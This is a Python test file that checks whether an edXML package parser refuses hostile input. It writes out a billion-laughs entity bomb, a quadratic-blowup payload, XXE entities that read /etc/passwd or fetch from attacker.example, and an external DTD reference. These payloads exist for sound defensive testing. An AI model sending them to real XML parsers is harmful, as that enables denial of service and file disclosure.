"""Hostile XML is refused with a clear error, and without expanding or fetching anything."""

import resource

import pytest

from exchange.edxml.errors import EdxmlError, HostileXml, NotWellFormed, PackageTooLarge
from exchange.edxml.package import parse_package
from exchange.edxml.parser import Limits, parse_xml

NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&lol9;</edXML>
"""


def quadratic_blowup() -> bytes:
    entity = "A" * 100_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY a "{entity}">]>\n'
        f'<edXML xmlns="{NS}">{"&a;" * 20_000}</edXML>'
    ).encode()


def external_entity(system_id: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY ext SYSTEM "{system_id}">]>\n'
        f'<edXML xmlns="{NS}">&ext;</edXML>'
    ).encode()


EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">\n'
    f'<edXML xmlns="{NS}"/>'
).encode()


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        quadratic_blowup(),
        external_entity("file:///etc/passwd"),
        external_entity("http://attacker.example/secret"),
        EXTERNAL_DTD,
    ],
    ids=["billion-laughs", "quadratic-blowup", "xxe-file", "xxe-http", "external-dtd"],
)
def test_doctype_attacks_are_refused_without_expansion(data: bytes) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(HostileXml) as refused:
        parse_package(data)
    assert refused.value.code == "hostile_xml"
    assert "DOCTYPE" in refused.value.message
    assert refused.value.details[0].line == 2  # the DOCTYPE follows the XML declaration
    # Nothing was expanded or fetched: no memory growth, and no file content in the error.
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # KiB
    assert "root:" not in str(refused.value.as_dict())


def test_deep_nesting_is_refused_with_its_place() -> None:
    depth = 5_000
    data = f'<edXML xmlns="{NS}">'.encode() + b"<a>" * depth + b"</a>" * depth + b"</edXML>"
    with pytest.raises((HostileXml, NotWellFormed)) as refused:
        parse_package(data)
    assert "deep" in str(refused.value.as_dict()).lower() or "depth" in str(refused.value.as_dict()).lower()

    moderately = f'<edXML xmlns="{NS}">'.encode() + b"<a>" * 60 + b"</a>" * 60 + b"</edXML>"
    with pytest.raises(HostileXml, match="nested deeper than 40") as too_deep:
        parse_package(moderately)
    assert too_deep.value.details[0].line == 1
    assert too_deep.value.details[0].path is not None


def test_a_text_node_over_the_limit_is_refused() -> None:
    data = f'<edXML xmlns="{NS}"><x>{"A" * 2_000}</x></edXML>'.encode()
    with pytest.raises(HostileXml, match="text node is longer than 1000") as refused:
        parse_xml(data, Limits(max_text_chars=1_000))
    assert refused.value.details[0].path == "/edXML/x"
    parse_xml(data, Limits(max_text_chars=2_000))  # at the limit is fine


def test_too_many_elements_and_too_many_bytes_are_refused() -> None:
    data = f'<edXML xmlns="{NS}">{"<x/>" * 500}</edXML>'.encode()
    with pytest.raises(HostileXml, match="more than 100 elements"):
        parse_xml(data, Limits(max_elements=100))
    with pytest.raises(PackageTooLarge) as too_large:
        parse_xml(data, Limits(max_bytes=100))
    assert too_large.value.status == 413


def test_other_encodings_are_refused() -> None:
    data = f'<?xml version="1.0" encoding="ISO-8859-1"?><edXML xmlns="{NS}"/>'.encode()
    with pytest.raises(NotWellFormed, match="UTF-8"):
        parse_xml(data)


def test_a_foreign_root_is_not_a_package() -> None:
    with pytest.raises(EdxmlError, match="root element must be edXML") as refused:
        parse_package(b"<html><body/></html>")
    assert refused.value.details[0].line == 1
